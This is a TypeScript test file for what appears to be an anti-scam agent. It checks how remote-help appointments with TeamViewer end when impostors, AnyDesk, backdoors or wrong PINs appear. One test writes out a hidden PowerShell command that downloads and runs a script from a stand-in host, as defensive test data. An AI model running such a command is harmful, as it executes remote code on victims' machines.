import { randomUUID } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import type { DevicePolicy } from '@porchlight/contract/agent.ts';
import { hour, minute } from '@porchlight/contract/time.ts';
import { noUnlistedPolicy } from '@porchlight/contract/unlisted-protection.ts';
import { expect, it } from 'vitest';
import { fakeOs } from '../os/fake/fake.ts';
import { agentForTest, ended, linked, type TestAgent } from '../testing/agent.ts';
import { advanceTime, browserOf } from '../testing/browser.ts';
import { sitesWithoutSystem } from '../testing/dns-command.ts';
import { codeOf, linkedWithCodes, stopAnyDesk } from '../testing/locks.ts';
import type { TestServer } from '../testing/server.ts';
import { until } from '../testing/until.ts';

const teamviewer = {
  name: 'TeamViewer.exe',
  program: { os: 'windows', name: 'TeamViewer.exe', signer: 'TeamViewer Germany GmbH' },
} as const;
/** It has the name alone. */
const named = { name: 'TeamViewer.exe', program: { os: 'windows', name: 'TeamViewer.exe' } } as const;

const appointmentFor = (length: number, more: Partial<NonNullable<DevicePolicy['appointment']>> = {}, now = Date.now()) => ({
  issued: new Date(now).toISOString(),
  appointment: {
    ...{ uuid: randomUUID(), identifier: 'teamviewer', program: 'TeamViewer', by: 'Bob', money_pages: false },
    ...{ until: new Date(now + length).toISOString(), ...more },
  },
});
const inForce = (server: TestServer) => until('the policy', () => server.policy_in_force === server.policy.version);

/** Bob helps with TeamViewer for an hour. */
async function helped(length = hour) {
  const { server, test } = await linked();
  const opened = appointmentFor(length);
  server.setPolicy(opened);
  await inForce(server);
  return { server, test, uuid: opened.appointment.uuid };
}
const runs = ({ os }: TestAgent, process: { pid: number }) => [...os.running].some(({ pid }) => pid === process.pid);
const endOf = (server: TestServer, uuid: string) =>
  server.events.flatMap(({ reported }) => (reported.kind === 'helped' && reported.appointment === uuid ? [reported.end] : []));

it('[P15.1] the program that matches certainly runs at once and without an alarm, and the window says who helps, until when', async () => {
  const { server, test } = await helped();
  await until('the window', () => test.os.opened.length > 0);
  const helper = test.os.start(teamviewer);
  const page = await (await browserOf(test)).page();
  expect(page).toMatch(/Bob is helping until \d+:\d\d [AP]M/);
  expect(page).toContain('End it now');
  expect(page).not.toContain('It ends in less than five minutes');
  // What happens to another one shows that this one was inspected.
  await ended(test, test.os.start({ name: 'Reimage.exe', program: { os: 'windows', name: 'Reimage.exe' } }));
  await until('the report', () => server.detections.size === 1);
  expect([...server.detections.values()].map(({ identifier }) => identifier)).not.toContain('teamviewer');
  expect(runs(test, helper)).toBe(true);
});

it('[P15.1] a program that only calls itself TeamViewer is stopped, is reported, and ends the appointment', async () => {
  const { server, test, uuid } = await helped();
  const helper = test.os.start(teamviewer);
  await ended(test, test.os.start(named));
  await ended(test, helper);
  await until('the end', () => endOf(server, uuid).length > 0);
  expect(endOf(server, uuid)).toEqual(['danger']);
  await until('the report', () => server.detections.size > 0);
  expect([...server.detections.values()].map(({ certainty }) => certainty)).toEqual(['likely']);
});

it('[P15.1] AnyDesk beside it ends both at once, of which AnyDesk alone is reported; the policy does not bring it back', async () => {
  const { server, test, uuid } = await helped();
  const helper = test.os.start(teamviewer);
  await ended(test, test.os.start({ name: 'anydesk' }));
  await ended(test, helper);
  await until('the end', () => endOf(server, uuid).length > 0);
  expect(endOf(server, uuid)).toEqual(['danger']);
  expect([...server.detections.values()].map(({ identifier }) => identifier)).toEqual(['anydesk']);
  server.setPolicy({ ...appointmentFor(hour, { uuid }) });
  await inForce(server);
  advanceTime(test, 2 * minute);
  await ended(test, test.os.start(teamviewer));
  await until('its report', () => server.detections.size === 2);
});

it.each([
  { doors: 'block', runs_on: false },
  { doors: 'ignore', runs_on: true },
] as const)('[P15.1] [P15.9] a way in that somebody opens beside it, where the profile says $doors', async ({ doors, runs_on }) => {
  const { server, test } = await linked(fakeOs(), { sites: sitesWithoutSystem });
  const opened = appointmentFor(hour);
  server.setPolicy({ ...opened, unlisted: { ...noUnlistedPolicy, doors } });
  await inForce(server);
  await until('the first reading', async () => (await test.store.doors.load()) !== null);
  const helper = test.os.start(teamviewer);
  test.os.openDoor({ administrators: ['helper', 'root'] });
  await until('the reading', async () => (await test.store.doors.load())?.state.administrators?.includes('helper') === true);
  if (!runs_on) await ended(test, helper);
  if (!runs_on) await until('the end', () => endOf(server, opened.appointment.uuid).length > 0);
  expect(runs(test, helper)).toBe(runs_on);
  expect(endOf(server, opened.appointment.uuid)).toEqual(runs_on ? [] : ['danger']);
});

it('[P15.1] five minutes before its end the window says so; then its program is ended calmly, and a minute later it is an alarm again', async () => {
  const { server, test, uuid } = await helped();
  await until('the window', () => test.os.opened.length > 0);
  const helper = test.os.start(teamviewer);
  const openedBefore = test.os.opened.length;
  advanceTime(test, hour - 5 * minute);
  await until('the window once more', () => test.os.opened.length > openedBefore);
  expect(await (await browserOf(test)).page()).toContain('It ends in less than five minutes. Then we close TeamViewer.');
  advanceTime(test, 5 * minute);
  await ended(test, helper);
  await until('the end', () => endOf(server, uuid).length > 0);
  expect(endOf(server, uuid)).toEqual(['time']);
  await ended(test, test.os.start(teamviewer));
  expect(server.detections.size).toBe(0);
  advanceTime(test, minute);
  await ended(test, test.os.start(teamviewer));
  await until('the report', () => server.detections.size === 1);
});

it('[P15.1] End it now needs nothing, and ends the program; the free plan’s rules and the allow list stay as they were', async () => {
  const { server, test } = await linked();
  const opened = appointmentFor(hour);
  server.setPolicy({ ...opened, allow: [{ type: 'definition', identifier: 'anydesk', until: null, reported_until: null }] });
  await inForce(server);
  const [helper, allowed] = [test.os.start(teamviewer), test.os.start({ name: 'anydesk' })];
  const { text } = await (await browserOf(test)).press('end_help');
  expect(text).toContain('It’s over. We closed the program.');
  expect(text).not.toContain('is helping');
  await ended(test, helper);
  expect(runs(test, allowed)).toBe(true);
  await until('the end', () => endOf(server, opened.appointment.uuid).length > 0);
  expect(endOf(server, opened.appointment.uuid)).toEqual(['user']);
  expect(server.detections.size).toBe(0);
});

it.each([
  ['the allow list', { allow: [{ type: 'definition', identifier: 'teamviewer', until: null, reported_until: null }] }],
  ['the profile', { actions: { RemoteControl: 'ignore', DeceptiveUtility: 'block', ScamWebsite: 'block' } }],
] as const)('[P15.1] End it now ends the program although %s lets it run, which it may again a minute later', async (_what, lets) => {
  const { server, test } = await linked();
  server.setPolicy({ ...appointmentFor(hour), ...structuredClone(lets) } as Partial<DevicePolicy>);
  await inForce(server);
  const helper = test.os.start(teamviewer);
  await (await browserOf(test)).press('end_help');
  await ended(test, helper);
  advanceTime(test, minute + 1);
  const later = test.os.start(teamviewer);
  await ended(test, test.os.start({ name: 'Reimage.exe', program: { os: 'windows', name: 'Reimage.exe' } }));
  expect(runs(test, later)).toBe(true);
  expect([...server.detections.values()].filter(({ identifier }) => identifier === 'teamviewer')).toEqual([]);
});

it('[P15.1] an end elsewhere ends the program calmly, and the agent reports nothing', async () => {
  const { server, test } = await helped();
  const helper = test.os.start(teamviewer);
  server.setPolicy({ appointment: null });
  await ended(test, helper);
  await inForce(server);
  expect([server.detections.size, server.events.filter(({ reported }) => reported.kind === 'helped')]).toEqual([0, []]);
});

it('[P15.1] I need help now ends it', async () => {
  const { server, test, uuid } = await helped();
  const helper = test.os.start(teamviewer);
  test.agent.needHelp();
  await ended(test, helper);
  await until('the end', () => endOf(server, uuid).length > 0);
  expect(endOf(server, uuid)).toEqual(['danger']);
});

it('[P15.1] five wrong PINs end it; four do not', async () => {
  const { server, test, uuid } = await helped();
  const helper = test.os.start(teamviewer);
  const browser = await browserOf(test);
  const guess = () => browser.press('pause', { minutes: '10', pin: '000000', understood: 'yes' });
  for (let tries = 1; tries < 5; tries++) await guess();
  expect(runs(test, helper)).toBe(true);
  await guess();
  await ended(test, helper);
  await until('the end', () => endOf(server, uuid).length > 0);
  expect(endOf(server, uuid)).toEqual(['danger']);
});

it('[P15.1] a pasted command ends it, and a remote-control service that the system starts does not', async () => {
  const { server, test, uuid } = await helped();
  server.setPolicy({ unlisted: { ...noUnlistedPolicy, pasted_commands: 'block' } });
  await inForce(server);
  const helper = test.os.start(teamviewer);
  test.os.startedByPath.set('/opt/anydesk', 'service_manager');
  test.os.filesChanged.set('/opt/anydesk', test.clock.now.getTime() - hour);
  await ended(test, test.os.start({ name: 'anydesk', path: '/opt/anydesk' }));
  await until('the report', () => server.detections.size === 1);
  expect([runs(test, helper), endOf(server, uuid)]).toEqual([true, []]);
  const line = 'powershell -w hidden -c "iwr https://fixes.example/a.ps1 | iex"';
  test.os.start({
    ...{ name: 'powershell.exe', path: 'C:\\Windows\\powershell.exe', program: { os: 'windows', name: 'powershell.exe' } },
    command: { line, args: [], parents: ['explorer.exe'], pipeline: [] },
  });
  await ended(test, helper);
  await until('the end', () => endOf(server, uuid).length > 0);
  expect(endOf(server, uuid)).toEqual(['danger']);
});

it('[P15.1] a newer policy that states a shorter time shortens it, and no longer one', async () => {
  const { server, test, uuid } = await helped();
  const helper = test.os.start(teamviewer);
  for (const length of [10 * minute, 2 * hour]) {
    server.setPolicy(appointmentFor(length, { uuid }));
    await inForce(server);
  }
  advanceTime(test, 9 * minute);
  expect(runs(test, helper)).toBe(true);
  advanceTime(test, minute);
  await ended(test, helper);
});

it('[P15.1] neither a clock that is set back nor a restart makes it longer, and a killed agent’s successor ends the program calmly', async () => {
  const { server, test } = await helped();
  advanceTime(test, 30 * minute);
  const helper = test.os.start(teamviewer);
  test.clock.now = new Date(test.clock.now.getTime() - 20 * minute);
  await until('what is left on the disk', async () => (await test.store.appointments()).some(({ span }) => span.seen_up >= test.clock.up));
  await server.down();
  await test.close();
  const clock = { now: new Date(test.clock.now.getTime() + minute), up: minute, boot: 'second' };
  const restarted = await agentForTest(server, { os: test.os, folder: test.folder, clock });
  advanceTime(restarted, 28 * minute);
  expect(runs(restarted, helper)).toBe(true);
  advanceTime(restarted, minute);
  await ended(restarted, helper);
  expect(await restarted.store.hasUnreportedEnd()).toBe(false);
});

it('[P15.1] after a restart that finds nothing stored of it, it goes on only with the server’s next policy, for what is left', async () => {
  const { server, test, uuid } = await helped();
  await until('it to be stored', async () => (await test.store.appointments()).length === 1);
  await server.down();
  await test.close();
  for (const name of ['appointments.json', 'appointments.json.copy']) await rm(join(test.folder, name));
  const restarted = await agentForTest(server, { os: test.os, folder: test.folder, clock: test.clock });
  await ended(restarted, restarted.os.start(teamviewer));
  server.setPolicy(appointmentFor(10 * minute, { uuid }));
  await server.listen();
  await inForce(server);
  const helper = restarted.os.start(teamviewer);
  advanceTime(restarted, 9 * minute);
  expect(runs(restarted, helper)).toBe(true);
  advanceTime(restarted, minute);
  await ended(restarted, helper);
});

it('[P10.7] [P15.1] what a code allows is an appointment too: the window ends it, and so does another remote-control program', async () => {
  const { server, test } = await linkedWithCodes();
  await stopAnyDesk(test);
  const browser = await browserOf(test);
  await browser.press('allow', { pin: codeOf(server, test, 'allow', 'anydesk') });
  const allowed = test.os.start({ name: 'anydesk' });
  expect(await browser.page()).toMatch(/AnyDesk can run until \d/);
  await browser.press('end_help');
  await ended(test, allowed);
  expect(server.events.filter(({ reported }) => reported.kind === 'helped')).toEqual([]);
});
